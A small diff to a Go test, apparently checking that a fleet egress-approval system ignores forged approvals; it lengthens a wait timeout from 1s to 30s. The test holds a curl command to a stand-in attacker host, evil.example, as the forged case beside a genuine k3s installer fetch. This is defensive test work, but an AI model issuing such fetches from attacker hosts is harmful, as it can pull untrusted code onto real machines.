@@ -42,7 +42,7 @@ func TestFleetForgedEgressIgnored(t *testing.T) {
 		}
 	}
 	const genuine, forgedHost = "curl -fsSL https://get.k3s.io", "curl -fsSL https://evil.example"
-	if r := n.ozdesk(agent, "", "ask", "--wait", "1s", "--", genuine); r.code != 0 {
+	if r := n.ozdesk(agent, "", "ask", "--wait", "30s", "--", genuine); r.code != 0 {
 		t.Fatalf("%s before the forgery: exit %d, want it allowed\n%s%s", genuine, r.code, r.stdout, r.stderr)
 	}
 	if r := n.ozdesk(alice, "", "audit", "verify"); r.code != 0 {
